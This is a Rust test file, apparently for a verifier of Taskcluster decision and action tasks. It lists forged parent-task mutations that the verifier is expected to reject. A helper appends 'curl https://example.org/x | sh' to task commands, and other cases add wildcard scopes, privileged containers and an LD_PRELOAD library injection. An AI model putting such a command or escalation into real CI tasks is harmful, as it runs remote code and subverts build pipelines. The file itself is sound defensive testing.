@@ -1,0 +1,615 @@
+//! Parents whose own definition is not what the tree's template renders.
+
+use super::ways::{
+    act, decide, decision_text, earlier, firefox_git, git_action, git_cron, template_text, thunderbird,
+    variable,
+};
+use crate::attacks::{Attack, Q, T, attack};
+use crate::change::{
+    NOBODY, add, decision, empty, inside, list, only, parent, remove, replace_in, set, target_parent,
+};
+use crate::valid::{action, cron, fork, mobile, pr_action, promotion, pull_request, push, tag};
+use catena_json::Value;
+use catena_testbed::Chain;
+
+const IMAGE: &str =
+    "taskcluster/decision:3.0.1@sha256:00000000000000000000000000000000000000000000000000000000000000ff";
+
+/// Makes the last part of a decision task's command do one thing more.
+fn longer_command(task: &mut Value) -> Option<()> {
+    let command = inside(task, &["payload", "command"])?.as_array_mut()?;
+    let last = command.last_mut()?;
+    *last = format!("{} && curl https://example.org/x | sh", last.as_str()?).into();
+    Some(())
+}
+
+/// Lets a parent run in another pool, and lets the template at its revision say so too.
+fn pool(chain: &mut Chain, id: &str, worker_type: &str) -> Option<()> {
+    only(chain, id, |task| {
+        let provisioner = task.get("provisionerId")?.as_str()?.to_owned();
+        set(task, &["workerType"], worker_type)?;
+        set(task, &["taskQueueId"], format!("{provisioner}/{worker_type}"))
+    })
+}
+
+/// Lets the target's decision task and its action run elsewhere, as the template in the tree says.
+fn rendered_pool(chain: &mut Chain, worker_type: &str) -> Option<()> {
+    template_text(chain, "workerType: decision-gcp", &format!("workerType: {worker_type}"))?;
+    let parents = [chain.decisions.first().cloned(), chain.action.clone()];
+    parents.into_iter().flatten().try_for_each(|id| pool(chain, &id, worker_type))
+}
+
+pub(super) const ATTACKS: &[Attack] = &[
+    attack(
+        "decision task without its command",
+        &[T],
+        "A decision task runs what its image runs by itself, and not the command of the tree.",
+        push,
+        |c| decision(c, &["payload", "command"], Vec::new()),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a longer command",
+        &[T],
+        "The command of a push's decision task goes on after the tree's own command.",
+        push,
+        |c| decide(c, longer_command),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task of a release with a longer command",
+        &[T],
+        "The command of a release's decision task goes on after the tree's own command.",
+        tag,
+        |c| decide(c, longer_command),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task of an earlier push with a longer command",
+        &[T],
+        "The command of the decision task that made the image, on an earlier push, goes on after the tree's.",
+        push,
+        |c| {
+            let id = earlier(c)?;
+            only(c, &id, longer_command)
+        },
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task in another image",
+        &[T],
+        "A decision task runs in a pinned image that the tree does not name.",
+        push,
+        |c| decision(c, &["payload", "image"], IMAGE),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a scope more",
+        &[T],
+        "A decision task has one scope that the tree does not give it.",
+        push,
+        |c| decide(c, |task| add(task, &["scopes"], "assume:repo:hg.mozilla.org/releases/mozilla-release:*")),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with its scopes in another order",
+        &[T],
+        "The scopes of a decision task are those of the tree in another order.",
+        push,
+        |c| {
+            decide(c, |task| {
+                inside(task, &["scopes"])?.as_array_mut()?.reverse();
+                Some(())
+            })
+        },
+        "rebuild-differs",
+    ),
+    attack(
+        "cron task with every scope",
+        &[T],
+        "A cron job's decision task may do anything.",
+        cron,
+        |c| decision(c, &["scopes"], list("*")),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task of GitHub with the scopes of every branch",
+        &[T],
+        "A decision task for a push to GitHub has the role of all branches of its repository.",
+        mobile,
+        |c| decision_text(c, "reference-browser:branch:main", "reference-browser:branch:*"),
+        "rebuild-differs",
+    ),
+    attack(
+        "pull request with the scopes of a branch",
+        &[T],
+        "A pull request's decision task has the role of the main branch.",
+        pull_request,
+        |c| {
+            decide(c, |task| {
+                replace_in(task, "reference-browser:pull-request", "reference-browser:branch:main")
+            })
+        },
+        "rebuild-differs",
+    ),
+    attack(
+        "fork with the scopes of a trusted pull request",
+        &[T],
+        "The decision task of a fork's pull request has the role of pull requests by the project's own people.",
+        fork,
+        |c| decide(c, |task| replace_in(task, ":pull-request-untrusted\"", ":pull-request\"")),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task of a release with the scopes of a branch",
+        &[T],
+        "A release's decision task has the role of the main branch.",
+        tag,
+        |c| decide(c, |task| replace_in(task, "reference-browser:release", "reference-browser:branch:main")),
+        "rebuild-differs",
+    ),
+    attack(
+        "action of a pull request with the scopes of an action",
+        &[T],
+        "An action on a pull request has the role of actions on branches.",
+        pr_action,
+        |c| act(c, |task| replace_in(task, ":pr-action:generic", ":action:generic")),
+        "rebuild-differs",
+    ),
+    attack(
+        "action with the scopes of everything",
+        &[T],
+        "An action assumes every role.",
+        action,
+        |c| parent(c, &["scopes"], list("assume:*")),
+        "rebuild-differs",
+    ),
+    attack(
+        "action with the scopes of another permission",
+        &[T],
+        "A harmless action has the role of release promotion.",
+        action,
+        |c| act(c, |task| replace_in(task, ":action:generic", ":action:release-promotion")),
+        "rebuild-differs",
+    ),
+    attack(
+        "promotion with the scopes of another tree",
+        &[T],
+        "A release promotion has its role on another tree than its decision task's.",
+        promotion,
+        |c| {
+            act(c, |task| {
+                set(
+                    task,
+                    &["scopes"],
+                    list("assume:repo:hg.mozilla.org/releases/mozilla-release:action:release-promotion"),
+                )
+            })
+        },
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a route more",
+        &[T],
+        "A decision task also enters itself into the index in another place.",
+        push,
+        |c| {
+            decide(c, |task| {
+                add(task, &["routes"], "index.gecko.v2.mozilla-release.latest.taskgraph.decision")
+            })
+        },
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a variable more",
+        &[T],
+        "A library is loaded into every program of a decision task by a variable of its environment.",
+        push,
+        |c| decision(c, &["payload", "env", "LD_PRELOAD"], "/builds/worker/checkouts/x.so"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a variable less",
+        &[T],
+        "A decision task lacks a variable that the tree sets.",
+        push,
+        |c| decide(c, |task| remove(task, &["payload", "env", "HG_STORE_PATH"])),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a cache more",
+        &[T],
+        "A decision task also mounts the cache of tasks that anybody may start.",
+        push,
+        |c| decision(c, &["payload", "cache", "level-1-checkouts-v3"], "/builds/worker/other"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with more privileges",
+        &[T],
+        "A decision task's container is privileged, which the tree does not ask for.",
+        push,
+        |c| {
+            decide(c, |task| {
+                set(task, &["payload", "capabilities"], empty())?;
+                set(task, &["payload", "capabilities", "privileged"], true)
+            })
+        },
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task that may run longer",
+        &[T],
+        "A decision task may run four times as long as the tree says.",
+        cron,
+        |c| decision(c, &["payload", "maxRunTime"], 7200_i64),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a number as text",
+        &[T],
+        "The time a decision task may run is a text of the same digits.",
+        push,
+        |c| decision(c, &["payload", "maxRunTime"], "1800"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a switch as a number",
+        &[T],
+        "A switch that the tree sets to true is 1 in the decision task.",
+        mobile,
+        |c| decision(c, &["payload", "features", "chainOfTrust"], 1_i64),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a feature less",
+        &[T],
+        "A decision task asks for no Chain of Trust, and has one nevertheless.",
+        push,
+        |c| decide(c, |task| remove(task, &["payload", "features", "chainOfTrust"])),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task that publishes another folder",
+        &[T],
+        "What a decision task publishes comes from another folder than the tree says.",
+        push,
+        |c| decision(c, &["payload", "artifacts", "public", "path"], "/builds/worker/checkouts/artifacts"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task of somebody else",
+        &[T],
+        "A decision task names another owner than the one who pushed.",
+        push,
+        |c| decision(c, &["metadata", "owner"], "somebody@example.org"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task of another template",
+        &[T],
+        "A decision task names another file of the tree as its source.",
+        push,
+        |c| decide(c, |task| replace_in(task, "/.taskcluster.yml\"", "/testing/.taskcluster.yml\"")),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a later deadline",
+        &[T],
+        "A decision task may be run for years.",
+        push,
+        |c| decision(c, &["deadline"], "2030-01-01T00:00:00.000Z"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a later expiry",
+        &[T],
+        "A decision task of GitHub is kept for longer than the tree says.",
+        mobile,
+        |c| decision(c, &["expires"], "2040-01-01T00:00:00.000Z"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task created at another time",
+        &[T, Q],
+        "A decision task was created a day earlier than the rest of its times tells.",
+        push,
+        |c| decision(c, &["created"], "2026-08-11T09:30:12.000Z"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task ahead of all others",
+        &[T],
+        "A decision task has the highest priority there is.",
+        push,
+        |c| decision(c, &["priority"], "highest"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with another scheduler",
+        &[T],
+        "A decision task is of the scheduler of another level than its tree's.",
+        push,
+        |c| decision(c, &["schedulerId"], "gecko-level-2"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task that waits for another",
+        &[T],
+        "A decision task waits for a task that the tree does not name.",
+        push,
+        |c| decision(c, &["dependencies"], list(NOBODY)),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task that may follow a failure",
+        &[T],
+        "A decision task runs also when what it waits for has failed.",
+        tag,
+        |c| decision(c, &["requires"], "all-resolved"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task that is tried again and again",
+        &[T],
+        "A decision task is tried 49 times.",
+        push,
+        |c| decision(c, &["retries"], 49_i64),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task of another project",
+        &[T],
+        "A decision task belongs to a project of Taskcluster that the tree does not name.",
+        push,
+        |c| decision(c, &["projectId"], "somebodys"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with another tag",
+        &[T],
+        "A decision task is tagged as made for another user.",
+        pull_request,
+        |c| decision(c, &["tags", "createdForUser"], "release-duty@example.org"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task with a part of its own",
+        &[T],
+        "A decision task has a part at the top that the tree does not render.",
+        push,
+        |c| decision(c, &["bonus"], "x"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task that is shown otherwise",
+        &[T],
+        "How a fork's decision task is shown is another than the tree says.",
+        fork,
+        |c| decision(c, &["extra", "treeherder"], list("D")),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task on top of another Firefox",
+        &[T],
+        "A decision task of Thunderbird takes the sources of Firefox from a try push.",
+        thunderbird,
+        |c| decision(c, &["payload", "env", "GECKO_HEAD_REF"], "0123456789012345678901234567890123456789"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task of Thunderbird with a longer command",
+        &[T],
+        "The command of Thunderbird's decision task goes on after the tree's own command.",
+        thunderbird,
+        |c| decide(c, longer_command),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task of another level on GitHub",
+        &[T],
+        "The command of a pull request's decision task names the level of releases.",
+        pull_request,
+        |c| decision_text(c, "--level='1'", "--level='3'"),
+        "rebuild-differs",
+    ),
+    attack(
+        "decision task of Firefox on GitHub with a longer command",
+        &[T],
+        "The command of a decision task for a push of Firefox to GitHub goes on after the tree's.",
+        firefox_git,
+        |c| decide(c, longer_command),
+        "rebuild-differs",
+    ),
+    attack(
+        "cron task on GitHub for another branch",
+        &[T],
+        "A cron job's decision task on GitHub checks out another branch than its command says.",
+        git_cron,
+        |c| decide(c, |task| variable(task, "_HEAD_REF", "release")),
+        "rebuild-differs",
+    ),
+    attack(
+        "cron job's arguments",
+        &[T],
+        "A cron job's decision task is started for other jobs than its command says.",
+        cron,
+        |c| {
+            decide(c, |task| {
+                replace_in(task, "--target-tasks-method=nightly\\\"", "--target-tasks-method=all\\\"")
+            })
+        },
+        "rebuild-cron-differs",
+    ),
+    attack(
+        "cron job's name",
+        &[T],
+        "A cron job's decision task names another job than its scopes and routes are for.",
+        git_cron,
+        |c| {
+            decide(c, |task| {
+                replace_in(task, "\\\"job_name\\\":\\\"nightly\\\"", "\\\"job_name\\\":\\\"release\\\"")
+            })
+        },
+        "rebuild-cron-job-unknown",
+    ),
+    attack(
+        "action with a longer command",
+        &[T],
+        "An action's command goes on after the tree's own command.",
+        action,
+        |c| act(c, longer_command),
+        "rebuild-differs",
+    ),
+    attack(
+        "promotion with a longer command",
+        &[T],
+        "A release promotion's command goes on after the tree's own command.",
+        promotion,
+        |c| act(c, longer_command),
+        "rebuild-differs",
+    ),
+    attack(
+        "action on a pull request with a longer command",
+        &[T],
+        "The command of an action on a pull request goes on after the tree's own command.",
+        pr_action,
+        |c| act(c, longer_command),
+        "rebuild-differs",
+    ),
+    attack(
+        "action whose decision task has a longer command",
+        &[T],
+        "An action on GitHub is the tree's, and the decision task it acts on is not.",
+        git_action,
+        |c| decide(c, longer_command),
+        "rebuild-differs",
+    ),
+    attack(
+        "null as an argument",
+        &[T],
+        "The command of a decision task has one argument more, the text null.",
+        push,
+        |c| decide(c, |task| add(task, &["payload", "command"], "null")),
+        "rebuild-empty-values-added",
+    ),
+    attack(
+        "null among the variables",
+        &[T],
+        "The environment of a release's decision task has one variable more, the text null.",
+        tag,
+        |c| decision(c, &["payload", "env", "TASKGRAPH_SKIP"], "null"),
+        "rebuild-empty-values-added",
+    ),
+    attack(
+        "null among the variables of an action",
+        &[T],
+        "The environment of an action has one variable more, the text null.",
+        action,
+        |c| parent(c, &["payload", "env", "TASKGRAPH_SKIP"], "null"),
+        "rebuild-empty-values-added",
+    ),
+    attack(
+        "null as a cache",
+        &[T],
+        "A decision task mounts a cache at no place.",
+        push,
+        |c| decision(c, &["payload", "cache", "x"], Value::Null),
+        "rebuild-empty-values-added",
+    ),
+    attack(
+        "null as a member of its own",
+        &[T],
+        "The payload of a decision task on GitHub has one member more, which is null.",
+        mobile,
+        |c| decision(c, &["payload", "onExitStatus"], Value::Null),
+        "rebuild-empty-values-added",
+    ),
+    attack(
+        "empty object added",
+        &[T],
+        "The payload of a cron job's decision task has one member more, an empty object.",
+        cron,
+        |c| decision(c, &["payload", "devices"], empty()),
+        "rebuild-empty-values-added",
+    ),
+    attack(
+        "empty list added",
+        &[T],
+        "What a pull request's decision task publishes has one entry more, an empty list.",
+        pull_request,
+        |c| decision(c, &["payload", "artifacts", "private"], Vec::new()),
+        "rebuild-empty-values-added",
+    ),
+    attack(
+        "empty object added to an earlier decision task",
+        &[T],
+        "The payload of an earlier push's decision task has one member more, an empty object.",
+        push,
+        |c| {
+            let id = earlier(c)?;
+            only(c, &id, |task| set(task, &["payload", "supersederUrl"], empty()))
+        },
+        "rebuild-empty-values-added",
+    ),
+    attack(
+        "decision task in a pool for builds",
+        &[T],
+        "A decision task runs where builds run, and the tree says so too.",
+        push,
+        |c| rendered_pool(c, "b-linux-gcp"),
+        "worker-pool-decision",
+    ),
+    attack(
+        "decision task in a pool for images",
+        &[T],
+        "A decision task on GitHub runs where images are built, and the tree says so too.",
+        mobile,
+        |c| rendered_pool(c, "images-gcp"),
+        "worker-pool-decision",
+    ),
+    attack(
+        "action in a pool for builds",
+        &[T],
+        "A decision task and an action on its graph run where builds run, and the tree says so too.",
+        action,
+        |c| rendered_pool(c, "b-linux-gcp"),
+        "worker-pool-decision",
+    ),
+    attack(
+        "fork's decision task in a pool for builds",
+        &[T],
+        "The decision task of a fork's pull request runs where builds run, and the fork's tree says so.",
+        fork,
+        |c| rendered_pool(c, "b-linux-gcp"),
+        "worker-pool-decision",
+    ),
+    attack(
+        "decision task of an earlier push in another pool",
+        &[T],
+        "The decision task that made the image ran in a pool whose name only begins like that of one for decision tasks.",
+        push,
+        |c| {
+            let id = earlier(c)?;
+            super::ways::template_of(c, &id, |text| {
+                Some(text.replace("workerType: decision-gcp", "workerType: decision-gcp-test"))
+            })?;
+            pool(c, &id, "decision-gcp-test")
+        },
+        "worker-pool-decision",
+    ),
+    attack(
+        "promotion in a pool of another product",
+        &[T],
+        "A release promotion of Firefox runs in the decision pool of Thunderbird.",
+        promotion,
+        |c| {
+            let id = target_parent(c)?;
+            only(c, &id, |task| {
+                set(task, &["provisionerId"], "comm-3")?;
+                set(task, &["taskQueueId"], "comm-3/decision-gcp")
+            })
+        },
+        "worker-pool-decision",
+    ),
+];
